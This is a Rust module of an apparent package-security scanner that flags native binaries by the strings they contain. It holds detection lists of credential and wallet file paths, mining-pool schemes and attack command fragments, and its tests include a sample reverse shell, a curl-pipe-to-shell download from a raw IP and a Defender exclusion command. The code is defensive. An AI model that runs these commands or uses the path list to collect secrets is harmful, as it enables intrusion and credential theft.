//! Texts in machine code that tell what it is for.
//!
//! Machine code is not read, but what it opens, asks and starts is named by texts in it. A text stands without the code
//! that uses it, so each mark must be unmistakable alone. Measured on 417 native files of honest packages (add-ons and
//! platform binaries of the corpora, bun, deno, node with pnpm inside, turbo, workerd, biome, sentry-cli, aws-crt,
//! keytar, node-pty): none holds a mark of a wallet, of a browser's store, of a key store or of a mining pool, none an
//! address of a tunnel, of a messenger's hook or of a bare public address with a port.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use stockade_model::Limits;
use stockade_parse::native::text_around;
use stockade_parse::shell::BehaviourKind;

use crate::command;
use crate::vocabulary::{FileClass, Host, HostClass};

/// A text of a native file that tells what the file is for.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Held {
    /// What it tells.
    pub kind: HeldKind,
    /// The text: the mark of a file, the address, the command.
    pub text: String,
}

/// What a text of a native file tells.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum HeldKind {
    /// Where secrets of this class lie.
    Secret(FileClass),
    /// An address of this class.
    Address(HostClass),
    /// A command line that runs a download from a place for throw-away files, gives a shell away, or takes itself out
    /// of the system's protection.
    Command,
    /// The protocol of mining pools.
    MiningPool,
}

/// Files by the parts of their paths that name nothing else, lower-case with `/`.
const SECRETS: &[(FileClass, &[&str])] = &[
    (
        FileClass::Wallet,
        &[
            "nkbihfbeogaeaoehlefnkodbefgpgknn",
            "ejbalbakoplchlghecdalmeeeajnimhm",
            "bfnaelmomeimhlpmgjnjophhpkkoljpa",
            "hnfanknocfeofbddgcijnmhnfnkdnaad",
            "ibnejdfjmmkpcnlpebklmnkoeoihofec",
            "fhbohimaelbohpjbbldcngcnapndodjp",
            "egjidjbpglichdcondbcbdnbeeppgdph",
            "aeachknmefphepccionboohckonoeemg",
            "wallet.dat",
            "exodus.wallet",
            "solana/id.json",
            "ethereum/keystore",
            "atomic/local storage",
            "ledger live",
        ],
    ),
    (
        FileClass::BrowserProfile,
        &["login data", "cookies.sqlite", "logins.json", "key4.db", "local extension settings"],
    ),
    (FileClass::Keychain, &["login.keychain", "dump-keychain", ".password-store/", "kwalletd"]),
    (
        FileClass::ApplicationSession,
        &["discord/local storage", "discordcanary/local storage", "telegram desktop/tdata"],
    ),
    (FileClass::SshKey, &["id_rsa", "id_ed25519", "authorized_keys"]),
    (FileClass::NpmToken, &["/.npmrc", ".pypirc"]),
    (FileClass::CloudCredential, &[".aws/credentials", "application_default_credentials", ".kube/config"]),
    (FileClass::GitCredential, &[".git-credentials", "gh/hosts.yml"]),
    (FileClass::ShellHistory, &[".bash_history", ".zsh_history", "consolehost_history"]),
];

/// Texts that command lines of interest contain.
const COMMANDS: &[&str] = &[
    "/dev/tcp/",
    "downloadstring(",
    "downloadfile(",
    "-encodedcommand ",
    "powershell -e",
    "powershell.exe -e",
    "-windowstyle hidden",
    "add-mppreference",
    "set-mppreference",
    "curl -",
    "curl http",
    "wget -",
    "wget http",
    "invoke-webrequest ",
    "certutil -",
    "bitsadmin /",
    "mshta http",
];

const POOLS: &[&str] = &["stratum+tcp://", "stratum+ssl://", "stratum2+tcp://"];

const ADDRESSES: &[&str] = &["http://", "https://", "ws://", "wss://"];

/// Longest text to each side of a mark that is read, in characters.
const REACH: usize = 400;

/// Most texts of one kind that are kept of a file, and most command lines that are read.
const TEXTS: usize = 64;

struct Marks {
    matcher: AhoCorasick,
    /// What each pattern marks, and whether it is of two-byte characters.
    meanings: Vec<(Mark, bool)>,
}

#[derive(Clone, Copy)]
enum Mark {
    Secret(FileClass, &'static str),
    Command,
    Pool,
    Address,
}

static MARKS: LazyLock<Option<Marks>> = LazyLock::new(|| {
    let mut patterns: Vec<Vec<u8>> = Vec::new();
    let mut meanings = Vec::new();
    let mut add = |text: &str, mark: Mark| {
        let is_path = matches!(mark, Mark::Secret(..)) && text.contains('/');
        for text in [Some(text.to_owned()), is_path.then(|| text.replace('/', "\\"))].into_iter().flatten() {
            patterns.push(text.as_bytes().to_vec());
            meanings.push((mark, false));
            patterns.push(text.bytes().flat_map(|byte| [byte, 0]).collect());
            meanings.push((mark, true));
        }
    };
    for (class, texts) in SECRETS {
        texts.iter().for_each(|text| add(text, Mark::Secret(*class, text)));
    }
    COMMANDS.iter().for_each(|text| add(text, Mark::Command));
    POOLS.iter().for_each(|text| add(text, Mark::Pool));
    ADDRESSES.iter().for_each(|text| add(text, Mark::Address));
    let matcher = AhoCorasick::builder()
        .kind(Some(AhoCorasickKind::DFA))
        .ascii_case_insensitive(true)
        .build(patterns)
        .ok()?;
    Some(Marks { matcher, meanings })
});

/// What the texts of a native file tell, sorted, each once.
pub(super) fn find(bytes: &[u8], limits: &Limits) -> Vec<Held> {
    let Some(marks) = MARKS.as_ref() else { return Vec::new() };
    let mut reading = Reading { bytes, limits, held: Vec::new(), commands: 0, command_end: 0 };
    for hit in marks.matcher.find_iter(bytes) {
        if let Some((mark, is_wide)) = marks.meanings.get(hit.pattern().as_usize()) {
            reading.hit(*mark, hit.start(), *is_wide);
        }
    }
    reading.held.sort();
    reading.held
}

struct Reading<'a> {
    bytes: &'a [u8],
    limits: &'a Limits,
    held: Vec<Held>,
    /// How many command lines were read.
    commands: usize,
    /// The byte up to which a command line was read.
    command_end: usize,
}

impl Reading<'_> {
    fn hit(&mut self, mark: Mark, at: usize, is_wide: bool) {
        match mark {
            Mark::Secret(class, text) => self.keep(HeldKind::Secret(class), text),
            Mark::Pool => {
                let (_, text) = text_around(self.bytes, at, is_wide, REACH);
                self.keep(HeldKind::MiningPool, address(&text, "stratum").unwrap_or("stratum"));
            }
            Mark::Address => {
                let text: String = self.ahead(at, is_wide);
                if let Some(class) = notable(&text) {
                    self.keep(HeldKind::Address(class), &text);
                }
            }
            Mark::Command => self.command(at, is_wide),
        }
    }

    /// The address that starts at a byte.
    fn ahead(&self, at: usize, is_wide: bool) -> String {
        let width = if is_wide { 2 } else { 1 };
        let bytes = self.bytes.get(at..).unwrap_or_default().iter().step_by(width).take(REACH);
        let is_part = |byte: &&u8| byte.is_ascii_alphanumeric() || b":/.-_~%?=&@+[]".contains(byte);
        bytes.take_while(is_part).map(|byte| char::from(*byte)).collect()
    }

    fn command(&mut self, at: usize, is_wide: bool) {
        if at < self.command_end || self.commands >= TEXTS {
            return;
        }
        self.commands += 1;
        let (start, text) = text_around(self.bytes, at, is_wide, REACH);
        self.command_end = start + text.len() * if is_wide { 2 } else { 1 };
        // The text before the mark may be another one: the command starts at the last place that can start one.
        let before = at.saturating_sub(start) / if is_wide { 2 } else { 1 };
        let lead = text.get(..before).unwrap_or_default().rfind(['\t', '"', '`']).map_or(0, |at| at + 1);
        for line in [text.get(lead..), text.get(before..)].into_iter().flatten() {
            let (behaviours, _) = command::read_call(line, self.limits);
            let is_unguarded = line.to_ascii_lowercase().contains("mppreference")
                && behaviours.contains(&BehaviourKind::DisablesVerification);
            if is_unguarded || behaviours.iter().any(is_attack) {
                let shown: String = line.chars().take(REACH / 2).collect();
                return self.keep(HeldKind::Command, &shown);
            }
        }
    }

    fn keep(&mut self, kind: HeldKind, text: &str) {
        let held = Held { kind, text: text.to_owned() };
        let of_kind = self.held.iter().filter(|known| known.kind == held.kind).count();
        if of_kind < TEXTS && !self.held.contains(&held) {
            self.held.push(held);
        }
    }
}

/// The part of `text` from `scheme` to its blank.
fn address<'a>(text: &'a str, scheme: &str) -> Option<&'a str> {
    text.get(text.to_ascii_lowercase().find(scheme)?..)?.split_whitespace().next()
}

/// The class of an address that honest programs do not hold.
fn notable(address: &str) -> Option<HostClass> {
    let host = Host::of(address, false)?;
    let class = host.class();
    let is_notable = match class {
        HostClass::Messenger => host.path.bytes().filter(u8::is_ascii_digit).count() >= HOOK_DIGITS,
        HostClass::Tunnel => true,
        HostClass::RawAddress => has_own_port(address),
        _ => false,
    };
    is_notable.then_some(class)
}

/// Digits of a messenger's hook or bot: with fewer, the address is a manual's or lacks its token.
const HOOK_DIGITS: usize = 8;

/// Whether the address names a port that is not its scheme's: resolvers and examples of manuals name none.
fn has_own_port(address: &str) -> bool {
    let authority = address.split("://").nth(1).and_then(|rest| rest.split('/').next()).unwrap_or_default();
    let port = authority.rsplit_once(':').map(|(_, port)| port).unwrap_or_default();
    port.len() >= 2 && port.bytes().all(|byte| byte.is_ascii_digit()) && !matches!(port, "80" | "443" | "53")
}

/// What no honest program keeps a command line for. A download that is run names a place for throw-away files: installers
/// of runtimes hold their own command, with their own host.
fn is_attack(kind: &BehaviourKind) -> bool {
    match kind {
        BehaviourKind::ReverseShell => true,
        BehaviourKind::DownloadAndRun { urls } => urls.iter().any(|url| {
            let class = Host::of(url, true).map(|host| host.class());
            matches!(
                class,
                Some(
                    HostClass::RawAddress
                        | HostClass::Tunnel
                        | HostClass::Paste
                        | HostClass::Messenger
                        | HostClass::Hidden
                )
            )
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use stockade_model::Limits;

    use super::*;

    fn held(bytes: &[u8]) -> Vec<Held> {
        find(bytes, &Limits::default())
    }

    fn kinds(bytes: &[u8]) -> Vec<HeldKind> {
        held(bytes).into_iter().map(|held| held.kind).collect()
    }

    #[test]
    fn files_of_secrets_are_found_in_either_width_and_with_either_slash() {
        assert_eq!(kinds(b"\0\x01%s\\Login Data\0"), [HeldKind::Secret(FileClass::BrowserProfile)]);
        let wide: Vec<u8> = "Solana\\id.json".bytes().flat_map(|byte| [byte, 0]).collect();
        assert_eq!(kinds(&wide), [HeldKind::Secret(FileClass::Wallet)]);
        assert!(kinds(b"\0leveldb google-chrome .npmrc\0").is_empty());
    }

    #[test]
    fn addresses_of_honest_programs_are_none() {
        for (text, class) in [
            (&b"\0http://198.51.100.7:1224/keys\0"[..], Some(HostClass::RawAddress)),
            (b"https://1.1.1.1/dns-query", None),
            (b"http://127.0.0.1:9229/json", None),
            (b"https://discord.com/api/webhooks/123456789012/t0k3n-x", Some(HostClass::Messenger)),
            (b"https://hooks.slack.com/services/", None),
            (b"wss://a1b2.ngrok.io/ws", Some(HostClass::Tunnel)),
            (b"https://example.com/a:8080", None),
        ] {
            let expected: Vec<HeldKind> = class.map(HeldKind::Address).into_iter().collect();
            assert_eq!(kinds(text), expected, "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn command_lines_are_read_as_what_they_do() {
        for (text, is_attack) in [
            (&b"\0bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'\0"[..], true),
            (b"\0usage: x\0curl -fsSL http://198.51.100.7/a | sh\0", true),
            (b"curl -fsSL https://tool.example/install | bash", false),
            (b"run curl -O to fetch", false),
            (b"powershell -Command Add-MpPreference -ExclusionPath C:\\", true),
        ] {
            assert_eq!(
                kinds(text).contains(&HeldKind::Command),
                is_attack,
                "{}",
                String::from_utf8_lossy(text)
            );
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn marks_between_any_bytes_are_read_without_panic(
            parts in proptest::collection::vec(
                prop_oneof![
                    proptest::collection::vec(any::<u8>(), 0..12),
                    prop::sample::select(vec![
                        "curl -s ", "http://", "198.51.100.7:99/", " | sh", "stratum+tcp://", "Login Data", "/dev/tcp/",
                        "powershell -e", "\u{e9}",
                    ]).prop_map(|text| text.as_bytes().to_vec()),
                ],
                0..30,
            )
        ) {
            let bytes = parts.concat();
            prop_assert!(held(&bytes).len() <= 4 * TEXTS * 8);
        }
    }

    #[test]
    fn a_file_that_repeats_itself_is_read_once() {
        let many = b"curl -s http://198.51.100.7/a | sh ".repeat(2_000);
        assert_eq!(held(&many).iter().filter(|held| held.kind == HeldKind::Command).count(), 1);
    }
}
